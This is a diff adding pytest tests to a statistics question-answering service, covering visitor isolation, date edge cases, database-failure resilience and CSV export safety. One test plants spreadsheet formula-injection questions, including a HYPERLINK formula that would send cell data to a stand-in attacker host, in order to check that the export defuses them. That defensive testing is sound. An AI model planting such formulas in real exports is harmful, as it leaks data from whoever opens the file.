@@ -96,6 +96,20 @@ def test_anonymous_browsers_are_kept_apart_by_their_client_id(server):
     assert r.status_code == 200 and r.json()["conversations"] == []
 
 
+def test_visitors_sharing_one_key_are_kept_apart_by_their_browser(server):
+    """A portal page carrying one reader key for every visitor: each browser sees only its own."""
+    a, b = {**OTHER, "X-Client-ID": "portal-visitor-a1"}, {**OTHER, "X-Client-ID": "portal-visitor-b2"}
+    mine = ask(server, a, "贵州2020年新设立市场主体多少户？")
+    assert mine["conversation_id"] in [c["conversation_id"] for c in conversations(server, a)]
+    assert mine["conversation_id"] not in [c["conversation_id"] for c in conversations(server, b)]
+    assert httpx.get(f"{server.url}/api/v1/conversations/{mine['conversation_id']}", headers=b).status_code == 404
+    assert httpx.get(f"{server.url}/api/v1/answers/{mine['answer_id']}", headers=b).status_code == 404
+    # an integration naming no browser files under the key alone, apart from the browsers under it
+    assert mine["conversation_id"] not in [c["conversation_id"] for c in conversations(server, OTHER)]
+    follow = ask(server, a, "那2021年呢？", conversation_id=mine["conversation_id"])
+    assert follow["conversation_id"] == mine["conversation_id"]
+
+
 def test_another_keys_conversation_id_is_not_found(server):
     theirs = ask(server, OTHER)
     cid = theirs["conversation_id"]
@@ -236,3 +250,77 @@ def test_with_records_off_nothing_is_kept_and_the_request_history_is_used(corpus
         assert client.get("/api/v1/conversations", headers=READER).json() == {"records": "off", "conversations": []}
         assert client.get(f"/api/v1/conversations/{'0' * 32}", headers=READER).status_code == 404
         assert client.put(f"/api/v1/answers/{'0' * 32}/feedback", headers=READER, json={"vote": "up"}).status_code == 404
+
+
+# ----- review of issue 13: bad input and a failing database, in process over a private records database -----
+
+def records_client(corpus_service, tmp_path, **overrides):
+    return app_client(corpus_service, records_url=f"sqlite:///{tmp_path / 'records.db'}", eval_dir=tmp_path / "evalsets",
+                      **overrides)
+
+
+def test_the_last_representable_day_as_until_is_not_a_server_error(corpus_service, tmp_path):
+    # until is inclusive, so the range ends the day after: 9999-12-31 has none.
+    with records_client(corpus_service, tmp_path) as client:
+        wait_ready(client)
+        mine = client.post("/api/v1/ask", headers=READER, json={"question": Q1}).json()
+        r = client.get("/api/v1/records/export?format=jsonl&until=9999-12-31", headers=ADMIN)
+        assert r.status_code == 200 and mine["answer_id"] in r.text
+        r = client.get("/api/v1/analysis?since=9999-12-31&until=9999-12-31", headers=ADMIN)
+        assert r.status_code == 200 and r.json()["groups"] == []
+
+
+def test_the_csv_export_does_not_hand_excel_a_formula_from_a_question(corpus_service, tmp_path):
+    # Anyone who may ask can plant a question that Excel would run as a formula when the admin opens the export.
+    import csv as csv_module
+    import io
+
+    planted = ['=HYPERLINK("http://evil.example/?"&A2,"2025年市场主体目标")', "+1+2 市场主体目标", "@SUM(1) 市场主体目标",
+               "-2+3 市场主体目标"]
+    with records_client(corpus_service, tmp_path) as client:
+        wait_ready(client)
+        for q in planted:
+            assert client.post("/api/v1/ask", headers=READER, json={"question": q}).status_code == 200
+        text = client.get("/api/v1/records/export?format=csv", headers=ADMIN).text
+        rows = list(csv_module.DictReader(io.StringIO(text.lstrip("\ufeff"))))
+        assert len(rows) == len(planted)
+        for row in rows:
+            for column in ("question", "rewritten_question", "answer"):
+                assert not row[column].startswith(("=", "+", "-", "@")), row[column]
+        assert {row["question"].lstrip("'") for row in rows} == set(planted)  # defused, not altered
+        jsonl = client.get("/api/v1/records/export?format=jsonl", headers=ADMIN).text
+        assert {json.loads(line)["question"] for line in jsonl.splitlines()} == set(planted)  # JSONL as asked
+
+
+def test_a_failing_records_database_costs_the_record_not_the_answer_nor_the_question_in_the_log(
+        corpus_service, tmp_path, caplog):
+    secret = "身份证号110101199001011234的人2025年市场主体目标是多少？"
+    with records_client(corpus_service, tmp_path) as client:
+        wait_ready(client)
+        first = client.post("/api/v1/ask", headers=READER, json={"question": Q1}).json()
+        db = sqlite3.connect(tmp_path / "records.db")
+        # Every write refused (a full disk, a read-only file)...
+        db.execute("CREATE TRIGGER refuse BEFORE INSERT ON answers BEGIN SELECT RAISE(ABORT, 'disk full'); END")
+        db.commit()
+        r = client.post("/api/v1/ask", headers=READER, json={"question": secret})
+        assert r.status_code == 200 and r.json()["citations"] and r.json()["answer_id"] is None
+        # ...and then reads too (a database server gone, a damaged file): a follow-up still gets its answer,
+        # from the history the client sent.
+        db.execute("ALTER TABLE conversations RENAME TO conversations_gone")
+        db.commit()
+        db.close()
+        r = client.post("/api/v1/ask", headers=READER, json={"question": Q2, "history": [Q1],
+                                                             "conversation_id": first["conversation_id"]})
+        assert r.status_code == 200, r.text
+        assert r.json()["answer"] == "488.84万户"
+    assert "could not be recorded" in caplog.text
+    assert "110101199001011234" not in caplog.text and "身份证号" not in caplog.text
+
+
+def test_a_records_file_that_is_not_a_database_does_not_stop_the_service(corpus_service, tmp_path):
+    (tmp_path / "records.db").write_bytes(b"this is not a database, it is a text file\n" * 200)
+    with records_client(corpus_service, tmp_path) as client:
+        wait_ready(client)
+        r = client.post("/api/v1/ask", headers=READER, json={"question": Q1})
+        assert r.status_code == 200 and r.json()["answer"] == "650万户" and r.json()["answer_id"] is None
+    assert (tmp_path / "records.db").read_bytes().startswith(b"this is not a database")  # left for the admin
